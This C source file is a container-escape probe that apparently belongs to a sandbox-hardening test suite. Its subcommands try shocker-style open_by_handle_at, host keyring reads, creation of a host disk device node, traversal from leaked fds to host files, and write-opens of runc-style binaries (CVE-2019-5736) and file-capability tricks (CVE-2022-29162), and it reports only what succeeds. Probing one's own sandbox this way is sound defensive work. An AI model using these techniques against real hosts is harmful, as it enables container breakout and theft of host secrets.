/* The attacker's tool inside a RUN step (compiled -static by hardening/escapes.py).
 *
 * Each subcommand tries one thing and prints KEY=ok or KEY=<errno name>; it never
 * modifies what it reaches on the host: device nodes and binaries are only opened,
 * a file reached through a leaked fd is only read. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <arpa/inet.h>
#include <unistd.h>

static void report(const char *key, long rc)
{
    if (rc < 0)
        printf("%s=%s\n", key, strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
    else
        printf("%s=ok\n", key);
    fflush(stdout);
}

/* unshare(CLONE_NEWUSER) then a mount in a new mount namespace; add_key; kexec_load;
 * open_by_handle_at (shocker). */
static int cmd_seccomp(void)
{
    pid_t pid = fork();
    if (pid == 0) {
        long rc = unshare(CLONE_NEWUSER);
        report("unshare_user", rc);
        if (rc == 0) {
            rc = unshare(CLONE_NEWNS);
            report("unshare_mnt_in_userns", rc);
            if (rc == 0)
                report("mount_in_userns", mount("none", "/", "tmpfs", 0, NULL));
        }
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    report("add_key", syscall(SYS_add_key, "user", "ocb-probe", "x", 1,
                              KEY_SPEC_PROCESS_KEYRING));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    {
        /* shocker: a crafted handle (inode 2, the root of ext2/3/4) against "/" */
        struct {
            struct file_handle fh;
            unsigned int ino[2];
        } h;
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        h.fh.handle_bytes = 8;
        h.fh.handle_type = 1; /* FILEID_INO32_GEN */
        h.ino[0] = 2;
        h.ino[1] = 0;
        report("open_by_handle_at", open_by_handle_at(fd, &h.fh, O_RDONLY));
    }
    return 0;
}

/* The host's session keyring: search it, read the key with the given serial. */
static int cmd_keyring(const char *serial)
{
    char buf[256];
    long id, n;
    FILE *f;

    f = fopen("/proc/keys", "r");
    if (!f) {
        report("proc_keys", -1);
    } else {
        while (fgets(buf, sizeof(buf), f))
            printf("proc_keys: %s", buf);
        fclose(f);
    }
    id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "ocb-canary", 0);
    report("search_session", id);
    if (id < 0)
        id = strtol(serial, NULL, 10);
    memset(buf, 0, sizeof(buf));
    n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof(buf) - 1);
    report("read_key", n);
    if (n > 0)
        printf("key_payload=%s\n", buf);
    n = syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, buf, sizeof(buf) - 1);
    report("describe_key", n);
    if (n > 0)
        printf("key_description=%s\n", buf);
    return 0;
}

/* A block device node of the host's root disk: create it, open it for reading. */
static int cmd_dev(const char *maj, const char *min)
{
    dev_t d = makedev(atoi(maj), atoi(min));
    char c;
    int fd;

    unlink("/ocb-disk");
    report("mknod", mknod("/ocb-disk", S_IFBLK | 0600, d));
    fd = open("/ocb-disk", O_RDONLY);
    report("open_disk", fd);
    if (fd >= 0)
        report("read_disk", read(fd, &c, 1) == 1 ? 0 : -1);
    return 0;
}

/* Every inherited fd: where it points, and whether walking '..' from a directory fd
 * reaches the host file `target` (relative to the host's /). */
static int cmd_fds(const char *target)
{
    char path[64], link[512];
    int fd;

    for (fd = 0; fd < 1024; fd++) {
        struct stat st;
        ssize_t n;
        int cur, i;

        if (fstat(fd, &st) < 0)
            continue;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 0] = 0;
        printf("fd %d -> %s\n", fd, link);
        if (!S_ISDIR(st.st_mode))
            continue;
        cur = dup(fd);
        for (i = 0; i < 64 && cur >= 0; i++) {
            int up = openat(cur, "..", O_RDONLY | O_DIRECTORY);
            close(cur);
            cur = up;
        }
        if (cur >= 0) {
            int t = openat(cur, target, O_RDONLY);
            if (t >= 0) {
                char data[64] = {0};
                if (read(t, data, sizeof(data) - 1) < 0)
                    data[0] = 0;
                printf("LEAK fd %d reaches the host: %s\n", fd, data);
                close(t);
            }
            close(cur);
        }
    }
    return 0;
}

/* Binaries of every visible process: can one be opened for writing (CVE-2019-5736)?
 * Opened O_WRONLY without O_TRUNC and closed at once: nothing is written. */
static int cmd_exe(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    char path[300], link[512];

    if (!d)
        return report("opendir_proc", -1), 0;
    while ((e = readdir(d))) {
        int fd, o;
        ssize_t n;
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
        n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 0] = 0;
        fd = open(path, O_WRONLY);
        printf("exe %s (%s) write_open=%s\n", e->d_name, link,
               fd >= 0 ? "ok" : strerrorname_np(errno));
        if (fd >= 0)
            close(fd);
        o = open(path, O_PATH);
        if (o >= 0) {
            snprintf(path, sizeof(path), "/proc/self/fd/%d", o);
            fd = open(path, O_WRONLY);
            printf("exe %s via O_PATH write_open=%s\n", e->d_name,
                   fd >= 0 ? "ok" : strerrorname_np(errno));
            if (fd >= 0)
                close(fd);
            close(o);
        }
    }
    closedir(d);
    return 0;
}

/* Reopen the inherited O_PATH fd `n` (a binary some process of the sandbox ran) for
 * writing, retrying while it is still running (ETXTBSY) for up to 2.5 s. Nothing is
 * written: the fd is closed at once. */
static int cmd_reopen(const char *n)
{
    char path[64], link[512];
    ssize_t len;
    int i, fd = -1;

    snprintf(path, sizeof(path), "/proc/self/fd/%s", n);
    len = readlink(path, link, sizeof(link) - 1);
    link[len > 0 ? len : 0] = 0;
    for (i = 0; i < 50; i++) {
        fd = open(path, O_WRONLY);
        if (fd >= 0 || errno != ETXTBSY)
            break;
        usleep(50000);
    }
    if (fd >= 0) {
        printf("EXE-WRITABLE %s\n", link);
        close(fd);
    } else {
        printf("exe-reopen %s: %s\n", link, strerrorname_np(errno));
    }
    fflush(stdout);
    return 0;
}

/* TCP connect to addr:port with a 2 s timeout. */
static int cmd_net(const char *addr, const char *port)
{
    struct sockaddr_in a;
    struct pollfd p;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), err = 0;
    socklen_t len = sizeof(err);

    if (s < 0)
        return report("socket", -1), 0;
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons(atoi(port));
    if (inet_pton(AF_INET, addr, &a.sin_addr) != 1)
        return report("bad_address", -1), 0;
    if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 && errno != EINPROGRESS)
        return report("connect", -1), 0;
    p.fd = s;
    p.events = POLLOUT;
    if (poll(&p, 1, 2000) != 1) {
        errno = ETIMEDOUT;
        return report("connect", -1), 0;
    }
    getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &len);
    errno = err;
    report("connect", err ? -1 : 0);
    if (!err && write(s, "ocb-probe\n", 10) < 0)
        report("send", -1);
    close(s);
    return 0;
}

/* File capabilities on `path`: only inheritable ones (all of them), effective bit set.
 * A process gains them only if its own inheritable set is not empty (CVE-2022-29162). */
static int cmd_setfcap(const char *path)
{
    unsigned int v[5] = {0x02000000 | 1 /* VFS_CAP_REVISION_2 | EFFECTIVE */, 0,
                         0xffffffff, 0, 0x000001ff};
    report("setfcap", setxattr(path, "security.capability", v, sizeof(v), 0));
    return 0;
}

int main(int argc, char **argv)
{
    if (argc >= 2 && !strcmp(argv[1], "seccomp"))
        return cmd_seccomp();
    if (argc >= 3 && !strcmp(argv[1], "keyring"))
        return cmd_keyring(argv[2]);
    if (argc >= 4 && !strcmp(argv[1], "dev"))
        return cmd_dev(argv[2], argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "fds"))
        return cmd_fds(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "exe"))
        return cmd_exe();
    if (argc >= 4 && !strcmp(argv[1], "net"))
        return cmd_net(argv[2], argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "reopen"))
        return cmd_reopen(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "setfcap"))
        return cmd_setfcap(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "whoami"))
        return printf("euid=%d uid=%d\n", (int)geteuid(), (int)getuid()) < 0;
    fprintf(stderr, "usage: probe seccomp|keyring SERIAL|dev MAJ MIN|fds PATH|exe|net ADDR PORT|whoami\n");
    return 2;
}
